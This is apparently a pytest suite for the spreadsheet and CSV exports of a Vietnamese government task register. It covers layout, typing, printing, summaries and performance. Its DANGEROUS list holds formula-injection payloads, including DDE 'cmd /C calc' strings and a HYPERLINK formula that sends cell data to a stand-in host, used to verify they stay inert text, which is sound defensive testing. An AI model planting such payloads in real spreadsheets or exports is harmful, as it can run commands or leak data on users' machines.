"""The register as a workbook and as a text table: typed, safe, ready to print, and opened by others."""

from __future__ import annotations

import csv
import io
import multiprocessing
import subprocess
import time
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from shutil import which
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from domain.calendar import OFFICE_ZONE
from domain.figures import Figures, UnitFigures
from domain.lifecycle import State
from domain.register import Register, RegisterLine
from domain.sources import Source
from domain.timeliness import Cell
from exports.cells import MOST_CHARS
from exports.register_columns import COLUMNS
from exports.register_csv import register_csv
from exports.register_xlsx import HEAD_ROW, LIST, SUMMARY, register_xlsx
from tests.peak import peak_mb

NOW = datetime(2024, 2, 5, 8, 30, tzinfo=OFFICE_ZONE)
DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://xau.example/?"&A1,"Xem")',
    "+84 912 000 111",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=",
    "#N/A",
    "＝1+1",
    'DDE("cmd";"/C calc";"x")',
    "|cmd",
)


def _line(number: int = 1, **facts: Any) -> RegisterLine:
    line = RegisterLine(
        number=number,
        text="Rà soát, lập danh sách cơ sở nhà, đất dôi dư sau sắp xếp",
        leader="Lý Thị Phúc",
        lead="Phòng Tài chính - Kế hoạch",
        coordinating=("Phòng Nội vụ", "UBND xã An Hòa"),
        contact="Vũ Thị Tài",
        issued_on=date(2024, 1, 10),
        last_day=date(2024, 1, 31),
        recurring=None,
        urgency=None,
        important=False,
        source=Source.PROGRAMME,
        paper="Thông báo 15/TB-UBND ngày 10/01/2024",
        state=State.IN_PROGRESS,
        cell=Cell.OPEN_LATE,
        days_late=5,
        result="Đã rà soát 12/15 xã, đang đối chiếu hồ sơ",
        percent=80,
        difficulties=("Thiếu hồ sơ gốc của 3 trụ sở",),
        proposals=("Cho phép đo đạc lại",),
        assigner="Hoàng Văn Lâm",
        roadmap="trước ngày 01/02/2024",
        updated_on=date(2024, 2, 2),
        finished_on=None,
        extensions=1,
        old_last_day=date(2024, 1, 20),
        approver=None,
    )
    return replace(line, **facts)


def _register(*lines: RegisterLine, **facts: Any) -> Register:
    units = (
        UnitFigures(
            2, "Phòng Tài chính - Kế hoạch", "department", Figures(done_in_time=109, open_in_time=8, open_late=1)
        ),
        UnitFigures(3, "Phòng Nội vụ", "department", Figures(done_in_time=24, done_late=1, open_no_deadline=2)),
    )
    register = Register(
        "UBND huyện Tùng Lĩnh", "Toàn cơ quan", "Việc chưa hoàn thành", date(2024, 2, 5), NOW, lines, 0, units, 3
    )
    return replace(register, **facts)


def _sheet(register: Register, name: str = LIST) -> Worksheet:
    sheet = load_workbook(io.BytesIO(register_xlsx(register)))[name]
    assert isinstance(sheet, Worksheet)
    return sheet


def _column(head: str) -> int:
    return next(i for i, column in enumerate(COLUMNS, 1) if column.head == head)


def _value(sheet: Worksheet, head: str, row: int = HEAD_ROW + 1) -> Any:
    return sheet.cell(row, _column(head)).value


# --- the list ---


def test_the_columns_are_the_25_that_units_report_in() -> None:
    heads = [cell.value for cell in _sheet(_register(_line()))[HEAD_ROW]]
    assert len(heads) == 25
    assert heads[:3] == ["STT", "Tên nhiệm vụ", "Lãnh đạo phụ trách"]
    assert heads[15] == "ID"
    assert heads[-3:] == ["Người phê duyệt", "Thư điện tử người phê duyệt", "Điện thoại người phê duyệt"]


def test_days_are_days_and_numbers_are_numbers() -> None:
    sheet = _sheet(_register(_line(12)))
    assert _value(sheet, "Hạn hoàn thành") == datetime(2024, 1, 31)  # noqa: DTZ001  (a day has no zone)
    assert sheet.cell(HEAD_ROW + 1, _column("Hạn hoàn thành")).number_format == "dd/mm/yyyy"
    assert (_value(sheet, "ID"), _value(sheet, "Số lần gia hạn"), _value(sheet, "Mức độ hoàn thành")) == (12, 1, 0.8)


def test_what_is_not_kept_stays_empty() -> None:
    sheet = _sheet(_register(_line(percent=None, approver=None, result="")))
    empty = ("Thư điện tử người phê duyệt", "Điện thoại người phê duyệt", "Người phê duyệt", "Mức độ hoàn thành")
    assert [_value(sheet, head) for head in (*empty, "Kết quả")] == [None] * 5


@pytest.mark.parametrize(
    ("state", "cell", "late", "words"),
    [
        (State.IN_PROGRESS, Cell.OPEN_LATE, 5, "Đang thực hiện, QUÁ HẠN 5 ngày"),
        (State.IN_PROGRESS, Cell.OPEN_IN_TIME, 0, "Đang thực hiện, trong hạn"),
        (State.ISSUED, Cell.OPEN_NO_DEADLINE, 0, "Đã giao, chưa nhận, không hạn"),
        (State.COMPLETED, Cell.DONE_IN_TIME, 0, "Hoàn thành đúng hạn"),
        (State.COMPLETED, Cell.DONE_LATE, 2, "Hoàn thành quá hạn 2 ngày"),
        (State.COMPLETED, Cell.DONE_NO_DEADLINE, 0, "Hoàn thành, không hạn"),
        (State.SUBMITTED, Cell.OPEN_LATE, 1, "Chờ duyệt, báo cáo QUÁ HẠN 1 ngày"),
    ],
)
def test_how_it_stands_is_said_in_words(state: State, cell: Cell, late: int, words: str) -> None:
    assert _value(_sheet(_register(_line(state=state, cell=cell, days_late=late))), "Trạng thái") == words


def test_heads_stay_in_sight_and_can_be_filtered_by() -> None:
    sheet = _sheet(_register(_line(1), _line(2)))
    assert sheet.freeze_panes == f"C{HEAD_ROW + 1}"
    assert sheet.auto_filter.ref == f"A{HEAD_ROW}:Y{HEAD_ROW + 2}"


def test_it_prints_on_a4_landscape_one_page_wide_with_heads_on_each_page() -> None:
    sheet = _sheet(_register(_line()))
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${HEAD_ROW}:${HEAD_ROW}"
    assert sheet.oddFooter.center.text == "Trang &P/&N"


def test_an_empty_list_is_a_sheet_with_its_heads() -> None:
    sheet = _sheet(_register(units=()))
    assert sheet.max_row == HEAD_ROW
    assert "0 nhiệm vụ" in str(sheet["A3"].value)


def test_what_did_not_fit_is_said() -> None:
    assert "còn 1.200 nhiệm vụ chưa có trong bảng" in str(_sheet(_register(_line(), left_out=1200))["A3"].value)


# --- the summary ---


def test_the_summary_adds_up_and_says_both_rates_in_words() -> None:
    sheet = _sheet(_register(_line()), SUMMARY)
    rows = {row[1].value: [cell.value for cell in row[2:]] for row in sheet.iter_rows(min_row=HEAD_ROW + 1)}
    assert rows["Tổng cộng"][:7] == [145, 133, 1, 0, 8, 1, 2]
    assert sum(rows["Tổng cộng"][1:7]) == rows["Tổng cộng"][0]
    text = "\n".join(str(words) for words in rows)
    assert "đã hoàn thành ÷ tổng số nhiệm vụ = 134 ÷ 145 = 92,4 %" in text
    assert "(đã hoàn thành + chưa hoàn thành quá hạn) = 134 ÷ 135 = 99,3 %" in text


def test_the_chart_is_a_native_one_of_the_six_cells() -> None:
    packed = zipfile.ZipFile(io.BytesIO(register_xlsx(_register(_line()))))
    chart = packed.read("xl/charts/chart1.xml").decode()
    assert "barChart" in chart
    assert chart.count("<ser>") == 6
    assert not [name for name in packed.namelist() if name.startswith("xl/media")]


# --- words stay words ---


@pytest.mark.parametrize("words", DANGEROUS)
def test_no_words_become_a_formula(words: str) -> None:
    sheet = _sheet(_register(_line(text=words, result=words, lead=words)))
    for head in ("Tên nhiệm vụ", "Kết quả", "Đơn vị chủ trì"):
        cell = sheet.cell(HEAD_ROW + 1, _column(head))
        assert cell.data_type in {"s", "n"}  # "n": nothing but signs that were taken out
        assert cell.value is None or words.strip().strip("\r\n") in str(cell.value).strip() or words == "\t=1+1"


def test_no_cell_of_the_workbook_holds_a_formula() -> None:
    register = _register(*[_line(i, text=words, lead=words) for i, words in enumerate(DANGEROUS, 1)])
    packed = zipfile.ZipFile(io.BytesIO(register_xlsx(register)))
    sheets = [packed.read(name).decode() for name in packed.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


def test_what_looks_like_a_formula_is_quoted() -> None:
    sheet = _sheet(_register(_line(text="=1+1", result="bình thường")))
    assert sheet.cell(HEAD_ROW + 1, _column("Tên nhiệm vụ")).quotePrefix
    assert not sheet.cell(HEAD_ROW + 1, _column("Kết quả")).quotePrefix


def test_signs_that_no_file_may_hold_are_taken_out() -> None:
    sheet = _sheet(_register(_line(text="Báo\x00 cáo\x0b tiến\x1f độ\ud800")))
    assert _value(sheet, "Tên nhiệm vụ") == "Báo cáo tiến độ"


def test_very_long_words_are_cut_and_marked() -> None:
    cut = _value(_sheet(_register(_line(text="đ" * 40_000))), "Tên nhiệm vụ")
    assert len(cut) == MOST_CHARS
    assert cut.endswith("[…]")


# --- the text table ---


def _rows(register: Register) -> list[list[str]]:
    return list(csv.reader(io.StringIO(register_csv(register).decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_text_table_opens_in_a_vietnamese_spreadsheet() -> None:
    content = register_csv(_register(_line(7)))
    assert content.startswith(b"\xef\xbb\xbfSTT;")
    heads, row = _rows(_register(_line(7)))
    assert len(heads) == len(row) == 25
    assert (row[7], row[12], row[15]) == ("31/01/2024", "80%", "7")


@pytest.mark.parametrize("words", [words for words in DANGEROUS if words[0] not in "D#"])
def test_the_text_table_has_an_apostrophe_before_what_looks_like_a_formula(words: str) -> None:
    assert _rows(_register(_line(text=words)))[1][1].startswith("'")


def test_line_breaks_and_semicolons_stay_within_their_cell() -> None:
    assert _rows(_register(_line(text='Một; hai\n"ba"')))[1][1] == 'Một; hai\n"ba"'


# --- opened by another program ---


def _has_calc(office: str) -> bool:
    return (Path(office).resolve().parent / "libsclo.so").exists()


@pytest.fixture(scope="module")
def by_office(tmp_path_factory: pytest.TempPathFactory) -> Callable[[bytes, str], bytes]:
    """What LibreOffice makes of a workbook."""
    office = which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")

    def turn(content: bytes, into: str) -> bytes:
        folder = tmp_path_factory.mktemp("office")
        (folder / "bang.xlsx").write_bytes(content)
        command = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", into]
        told = subprocess.run(
            [*command, "--outdir", str(folder), str(folder / "bang.xlsx")], capture_output=True, timeout=120, check=True
        )
        if not _has_calc(office) and b"could not be loaded" in told.stderr:
            pytest.skip("LibreOffice is installed without its spreadsheet")
        (made,) = [file for file in Path(folder).iterdir() if file.is_file() and file.name != "bang.xlsx"]
        return made.read_bytes()

    return turn


def test_another_spreadsheet_opens_it_and_works_nothing_out(by_office: Callable[[bytes, str], bytes]) -> None:
    register = _register(*[_line(i, text=words) for i, words in enumerate(DANGEROUS, 1)])
    table = by_office(register_xlsx(register), "csv:Text - txt - csv (StarCalc):44,34,76,1")
    rows = list(csv.reader(io.StringIO(table.decode(), newline="")))[HEAD_ROW:]
    assert [row[1].strip() for row in rows] == [words.strip() for words in DANGEROUS]
    assert {row[7] for row in rows} == {"31/01/2024"}


# --- many lines ---


def _heavy(pipe: Any) -> None:
    lines = [_line(i, text="Triển khai thực hiện nhiệm vụ được giao " * 8, result="Kết quả " * 30) for i in range(500)]
    quickest, size = 99.0, 0  # of three: others may use the processor's caches
    for _ in range(3):
        begun = time.process_time()
        size = len(register_xlsx(_register(*lines)))
        quickest = min(quickest, time.process_time() - begun)
    pipe.send((quickest, peak_mb(), size))


def test_500_lines_are_drawn_in_time_and_within_memory() -> None:
    context = multiprocessing.get_context("spawn")
    ours, theirs = context.Pipe()
    child = context.Process(target=_heavy, args=(theirs,))
    child.start()
    assert ours.poll(60)
    seconds, megabytes, size = ours.recv()
    child.join(10)
    assert seconds <= 5
    assert megabytes <= 300
    assert size < 1_000_000
